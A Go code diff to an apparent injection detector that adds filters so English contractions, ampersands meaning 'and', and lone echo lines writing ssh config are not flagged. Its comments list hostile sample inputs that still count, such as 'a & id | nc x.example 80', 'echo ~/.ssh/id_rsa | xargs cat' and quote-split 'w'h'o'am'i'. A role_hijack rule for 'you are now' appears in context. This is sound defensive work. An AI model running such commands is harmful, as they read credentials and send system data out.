@@ -409,6 +409,66 @@ var reGrantAccess = lazyre.New(`^(?:give|provide)\s+(?:a|an|the|each|every|this|
 // attribute with a value, no event handler (`<image>`, `<image id>`, `<image-name>`).
 var reTagMention = lazyre.New(`^<\s*[a-z]+(?:[-_:][a-z]+)*(?:\s+[a-z]+)*\s*>$`)
 
+// reContraction is a word and an English contraction's ending, one apostrophe between them:
+// "i'd", "we'll", "they're", "i've", "don't", "i'm" (normalized text).
+var reContraction = lazyre.New(`^[a-z]+'(?:d|ll|re|ve|t|m)$`)
+
+// proseContractions reports whether split_command_name's match m (its first token that spells
+// a command without its quotes) is an English contraction ("i'd" spells id) at each of its
+// occurrences in t: inside a sentence, after a word, a comma or a sentence's end and a space
+// (or at the start), and before a space and a word, and no other token of t spells a command
+// once those are blanked (splitCommandName, which reports the first only). "localhost;i'd",
+// "x | i'd", a contraction on a line of its own, and "I'd like w'h'o'am'i" still count
+// (issue 26, fresh calib: ent's blog posts).
+func proseContractions(t, m string) bool {
+	if !reContraction.MatchString(m) {
+		return false
+	}
+	b := []byte(t)
+	ok := everyOccurrence(t, m, func(at int) bool {
+		end := at + len(m)
+		if end+1 >= len(t) || t[end] != ' ' || t[end+1] < 'a' || t[end+1] > 'z' {
+			return false
+		}
+		if at > 0 {
+			j := at - 1
+			if t[j] != ' ' {
+				return false
+			}
+			for j >= 0 && t[j] == ' ' {
+				j--
+			}
+			if j >= 0 && !isWordChar(t[j]) && !strings.ContainsRune(",.!?:)", rune(t[j])) {
+				return false
+			}
+		}
+		for k := at; k < end; k++ {
+			b[k] = ' '
+		}
+		return true
+	})
+	return ok && splitCommandName(string(b)) == ""
+}
+
+// reAmpersandClause is what follows separator_recon's word when "&" is English "and" in a
+// sentence: a space, then two more plain words ("flags & env variables referring to SSL",
+// "tags & set max length to 100").
+var reAmpersandClause = lazyre.New(`^[ \t]+[a-z]+[ \t]+[a-z]+\b`)
+
+// ampersandWords reports whether every separator_recon match in t is "&" written for "and"
+// between words of a sentence (issue 26, fresh calib: Mailpit's changelog): a lone "&" after a
+// word and a space, then a space, the command's name as a word and two more plain words
+// (reAmpersandClause). "localhost & set", "x && env", "a & id | nc x.example 80", "a;id" and "a
+// & whoami & hostname" still count.
+func ampersandWords(t string) bool {
+	return everyMatchSpan(commandRules, t, func(at, end int) bool {
+		if t[at] != '&' || at < 2 || t[at-1] != ' ' || !isWordChar(t[at-2]) || end >= len(t) || at+1 >= len(t) || t[at+1] != ' ' {
+			return false
+		}
+		return reAmpersandClause.MatchString(t[end:])
+	}, "separator_recon")
+}
+
 // proseMentions drops what wordy prose mentions rather than carries: a shell's path (`/bin/sh
 // -c` in documentation is a name; nothing runs prose), a quoted word or phrase "or" another
 // (quote_or_quote and quote_tautology on English), giving a thing access to a secret
@@ -437,8 +497,12 @@ func proseMentions(r *Result) {
 		return h.Rule == "reveal_secrets" && reGrantAccess.MatchString(h.Match)
 	})
 	dropHits(r, CommandInjection, func(h Hit) bool {
-		// A possessive ("adam-p's"), not a command name split by quotes (w'h'o'am'i).
-		return h.Rule == "split_command_name" && strings.Count(h.Match, "'") == 1 && strings.HasSuffix(h.Match, "'s")
+		// A possessive ("adam-p's"), not a command name split by quotes (w'h'o'am'i). An
+		// English contraction in a sentence ("I'd like to introduce", "I didn't know what I'd
+		// expect"): proseContractions.
+		return h.Rule == "split_command_name" && strings.Count(h.Match, "'") == 1 && strings.HasSuffix(h.Match, "'s") ||
+			h.Rule == "split_command_name" && proseContractions(t, h.Match) ||
+			h.Rule == "separator_recon" && ampersandWords(t)
 	})
 	dropHits(r, PromptInjection, func(h Hit) bool {
 		if h.Rule != "role_hijack" || (h.Match != "you are now" && h.Match != "you're now") {
@@ -1580,6 +1644,18 @@ func entersSecret(a shell.Result) bool {
 	return false
 }
 
+// printsOnly reports whether the line is one echo or printf and its output redirects: one
+// command, no pipe, substitution, input redirect, second command or line break in its text.
+func printsOnly(a shell.Result, text string) bool {
+	if len(a.Commands) != 1 || len(a.Commands[0]) < 2 {
+		return false
+	}
+	if name := path.Base(a.Commands[0][0]); name != "echo" && name != "printf" {
+		return false
+	}
+	return !strings.ContainsAny(text, "|`<;&\n") && !strings.Contains(text, "$(")
+}
+
 func sensitiveInContext(r *Result, a shell.Result, text string) {
 	if a.Incomplete {
 		return
@@ -1648,6 +1724,19 @@ func sensitiveInContext(r *Result, a shell.Result, text string) {
 	for _, f := range a.Writes {
 		writes[homeWord(f)]++
 	}
+	// Text a lone echo or printf writes to a file (`echo "  IdentityFile ~/.ssh/aur" >>
+	// ~/.ssh/config`, a CI job's ssh setup; issue 26, fresh calib): the words it prints name
+	// a key, they do not read it; the file written is judged below. Only a line that is that
+	// one command and its redirects: a pipe, a substitution, an input redirect or a second
+	// command (`echo ~/.ssh/id_rsa | xargs cat`) keeps the words as paths.
+	printed := map[string]int{}
+	if printsOnly(a, text) {
+		for _, w := range a.Commands[0][1:] {
+			for _, f := range strings.Fields(w) {
+				printed[homeWord(strings.Trim(f, `"'`))]++
+			}
+		}
+	}
 	wroteSecret, accounts := false, false
 	for _, w := range strings.Fields(text) { // heredocs and code the parse did not run
 		if i := strings.IndexByte(w, '>'); i >= 0 && strings.Trim(w[:i], "0123456789&") == "" {
@@ -1660,6 +1749,10 @@ func sensitiveInContext(r *Result, a shell.Result, text string) {
 		if writes[k] > 0 {
 			writes[k]--
 			wroteSecret = wroteSecret || shell.PathRisk(k) == shell.RiskSecret
+			continue
+		}
+		if printed[k] > 0 {
+			printed[k]--
 			continue
 		}
 		if h, ok := hostOf[k]; ok {
@@ -1682,6 +1775,9 @@ func sensitiveInContext(r *Result, a shell.Result, text string) {
 	}
 	most := shell.RiskNone
 	for n, argv := range a.Commands {
+		if len(printed) > 0 {
+			break // the lone echo's words: printed, not read (above)
+		}
 		out := shell.KeygenOutput(argv)
 		for i, w := range argv[1:] {
 			if i > 0 && shell.OutputFlag(argv[0], argv[i]) {
